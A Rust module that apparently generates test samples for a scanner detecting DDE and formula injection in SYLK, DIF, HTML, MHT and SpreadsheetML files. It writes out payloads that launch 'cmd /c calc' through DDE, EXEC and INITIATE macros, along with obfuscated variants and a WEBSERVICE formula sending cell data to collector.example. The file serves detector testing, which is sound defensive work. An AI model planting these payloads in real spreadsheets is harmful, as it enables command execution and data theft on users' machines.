//! SYLK, DIF, HTML tables and SpreadsheetML 2003.

use super::{CALC, EXPECT, Expect, Sample, sample};

pub(super) fn samples() -> Vec<Sample> {
    let mut all = Vec::new();
    slk(&mut all);
    dif(&mut all);
    html(&mut all);
    spreadsheetml(&mut all);
    all
}

fn slk(all: &mut Vec<Sample>) {
    let file = |records: &str| format!("ID;PWXL;N;E\r\nP;PGeneral\r\nB;Y2;X2\r\n{records}E\r\n");
    let cell = file(&format!("C;Y1;X1;K\"a\"\r\nC;Y2;X2;K0;E{CALC}\r\n"));
    all.push(sample("X11", "x11-cell.slk", cell.clone(), EXPECT));
    all.push(sample("X11", "x11-named-workbook.xls", cell.clone(), EXPECT));
    all.push(sample("X11", "x11-named-text.csv", cell, EXPECT));
    all.push(sample("X11", "x11-name.slk", file(&format!("NN;Ncalc;E{CALC}\r\nC;Y1;X1;K1\r\n")), EXPECT));
    let doubled = file("C;Y1;X1;K0;ECHAR(65)&DDE(\"cmd\";;\"/c calc\";;\"x\")\r\n");
    all.push(sample("X11", "x11-doubled-semicolons.slk", doubled, EXPECT));
    // ESC and two characters of four bits each: c, m, d.
    let escaped = file("C;Y1;X1;K0;E\x1b&3\x1b&=\x1b&4|'/c calc'!A0\r\n");
    all.push(sample("text-encoding", "x11-escapes.slk", escaped, EXPECT));
    let macros = "O;E\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;K0;EEXEC(\"calc\")\r\nC;Y2;X1;K0;EHALT()\r\n";
    all.push(sample("X11", "x11-macro-exec.slk", file(macros), Expect::Related("macro-exec")));
    let verbs = "O;E\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;K0;EINITIATE(\"cmd\",\"/c calc\")\r\n";
    all.push(sample("X13", "x11-macro-dde.slk", file(verbs), Expect::Related("macro-dde")));
    let quiet = file("C;Y1;X1;K\"cmd|'/c calc'!A0\"\r\nC;Y2;X1;K3;ESUM(R[-1]C:RC)\r\nC;Y3;X1;K-5\r\n");
    all.push(sample("X11", "x11-silent.slk", quiet, Expect::Silent));
}

fn dif(all: &mut Vec<Sample>) {
    let file = |cell: &str| {
        let head =
            "TABLE\r\n0,1\r\n\"EXCEL\"\r\nVECTORS\r\n0,2\r\n\"\"\r\nTUPLES\r\n0,1\r\n\"\"\r\nDATA\r\n0,0\r\n\"\"\r\n";
        format!("{head}-1,0\r\nBOT\r\n0,5\r\nV\r\n1,0\r\n\"{cell}\"\r\n-1,0\r\nEOD\r\n")
    };
    all.push(sample("X12", "x12-cell.dif", file(&format!("={CALC}")), EXPECT));
    all.push(sample("X12", "x12-function.dif", file("=DDE(\"\"cmd\"\";\"\"/c calc\"\";\"\"x\"\")"), EXPECT));
    all.push(sample("X12", "x12-silent.dif", file("-5 and cmd|'/c calc'!A0"), Expect::Silent));
}

const OFFICE: &str = "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
                      xmlns:x=\"urn:schemas-microsoft-com:office:excel\">";

fn html(all: &mut Vec<Sample>) {
    let page = |cell: &str| {
        format!("{OFFICE}<head><title>t</title></head><body><table><tr><td>1</td>{cell}</tr></table></body></html>")
    };
    let text = page(&format!("<td>={CALC}</td>"));
    all.push(sample("X9", "x9-cell.html", text.clone(), EXPECT));
    all.push(sample("X9", "x9-cell-named-workbook.xls", text.clone(), EXPECT));
    all.push(sample("X9", "x9-formula-attribute.html", page(&format!("<td x:num x:fmla=\"={CALC}\">5</td>")), EXPECT));
    let references = page("<td>&#61;c&#109;d&#124;&apos;/c calc&#39;&#x21;A0</td>");
    all.push(sample("xml-encoding", "x9-references.html", references, EXPECT));
    let split = page("<td>=c<b>m</b>d<!-- x -->|'/c calc'<i></i>!A0</td>");
    all.push(sample("X9", "x9-split.html", split, EXPECT));
    all.push(sample("X9", "x9-bare-table.html", format!("<table><tr><td>\n={CALC}\n</td></tr></table>"), EXPECT));
    let seven = page("<td>+AD0-cmd+AHw-'/c calc'+ACE-A0</td>")
        .replace("<title>", "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-7\"><title>");
    all.push(sample("text-encoding", "x9-utf7.html", seven, EXPECT));
    let archive = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n\
         Content-Location: file:///C:/book.htm\r\nContent-Transfer-Encoding: quoted-printable\r\n\
         Content-Type: text/html; charset=\"us-ascii\"\r\n\r\n{}\r\n--b--\r\n",
        text.replace('=', "=3D").replace("</tr>", "=\r\n</tr>")
    );
    all.push(sample("X9", "x9-cell.mht", archive, EXPECT));
    let web = page("<td x:fmla='=WEBSERVICE(\"http://collector.example/?q=\"&amp;A1)'>5</td>");
    all.push(sample("X15", "x15-webservice.html", web, Expect::Related("exfiltration")));
    all.push(sample("X9", "x9-silent-text.html", page(&format!("<td x:str>={CALC}</td><td>-5</td>")), Expect::Silent));
    let prose = page(&format!("<td>DDE: {CALC}</td><td>@name</td>")).replace("<table>", "<p>a | b!c</p><table>");
    all.push(sample("X9", "x9-silent-prose.html", prose, Expect::Silent));
}

fn book(declaration: &str, inner: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n{declaration}<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
         xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\
         {inner}</Workbook>\n"
    )
}

fn sheet(cell: &str) -> String {
    format!(
        "<Worksheet ss:Name=\"One\"><Table><Row ss:Index=\"3\"><Cell ss:Index=\"2\" {cell}</Row></Table></Worksheet>"
    )
}

fn spreadsheetml(all: &mut Vec<Sample>) {
    let instruction = "<?mso-application progid=\"Excel.Sheet\"?>\n";
    let cell = sheet(&format!("ss:Formula=\"={CALC}\"><Data ss:Type=\"Error\">#REF!</Data></Cell>"));
    all.push(sample("X8", "x8-cell.xml", book(instruction, &cell), EXPECT));
    all.push(sample("X8", "x8-no-instruction.xml", book("", &cell), EXPECT));
    all.push(sample("X8", "x8-named-workbook.xls", book("", &cell), EXPECT));
    let names = format!("<Names><NamedRange ss:Name=\"n\" ss:RefersTo=\"={CALC}\"/></Names>");
    all.push(sample("X8", "x8-name.xml", book(instruction, &format!("{names}{}", sheet("/>"))), EXPECT));
    let prefixed = book("", &cell)
        .replace("<Work", "<q:Work")
        .replace("</Work", "</q:Work")
        .replace("<Table", "<q:Table")
        .replace("</Table", "</q:Table")
        .replace("<Row", "<q:Row")
        .replace("</Row", "</q:Row")
        .replace("<Cell", "<q:Cell")
        .replace("</Cell", "</q:Cell")
        .replace(" xmlns=", " xmlns:q=")
        .replace("ss:Formula", "q:Formula");
    all.push(sample("xml-encoding", "x8-other-prefix.xml", prefixed, EXPECT));
    let references = sheet("ss:Formula=\"=c&#109;d&#x7C;&apos;/c calc&#39;!A0\"/>");
    all.push(sample("xml-encoding", "x8-references.xml", book("", &references), EXPECT));
    let entity = book("<!DOCTYPE Workbook [<!ENTITY f \"=cmd|'/c calc'!A0\">]>", &sheet("ss:Formula=\"&f;\"/>"));
    all.push(sample("xml-entity", "x8-entity.xml", entity, EXPECT));
    let far = book(&format!("<!--{}-->", "x".repeat(6000)), &cell);
    all.push(sample("X8", "x8-root-far-away.xml", far, EXPECT));
    let wide: Vec<u8> = format!("\u{feff}{}", book("", &cell)).encode_utf16().flat_map(u16::to_le_bytes).collect();
    all.push(sample("xml-encoding", "x8-utf16.xml", wide, EXPECT));
    let condition = format!(
        "<Worksheet ss:Name=\"One\"><Table/><x:ConditionalFormatting><x:Range>R1C1</x:Range><x:Condition>\
         <x:Value1>{CALC}</x:Value1></x:Condition></x:ConditionalFormatting></Worksheet>"
    );
    all.push(sample("X6", "x8-conditional-format.xml", book("", &condition), EXPECT));
    let validation = condition.replace("ConditionalFormatting", "DataValidation").replace("Value1", "Value");
    all.push(sample("X6", "x8-validation.xml", book("", &validation), EXPECT));
    let supbook = "<x:ExcelWorkbook><x:SupBook><x:Path>cmd|/c calc</x:Path><x:ExternName><x:Name>A0</x:Name>\
                   <x:WantAdvise/></x:ExternName></x:SupBook></x:ExcelWorkbook>";
    all.push(sample("orphan-link", "x8-external-book.xml", book("", supbook), EXPECT));
    let feed: String = (0..50).map(|n| format!("<Row><Cell ss:Formula=\"=MTX|DATA!item.{n}\"/></Row>")).collect();
    let feed = book("", &format!("<Worksheet ss:Name=\"One\"><Table>{feed}</Table></Worksheet>"));
    all.push(sample("X8", "x8-market-feed.xml", feed, Expect::Dde("MTX", "DATA")));
    let quiet = sheet(&format!("ss:Formula=\"=SUM(R1C1:R2C2)\"><Data ss:Type=\"String\">={CALC}</Data></Cell>"));
    all.push(sample("X8", "x8-silent.xml", book(instruction, &quiet), Expect::Silent));
}
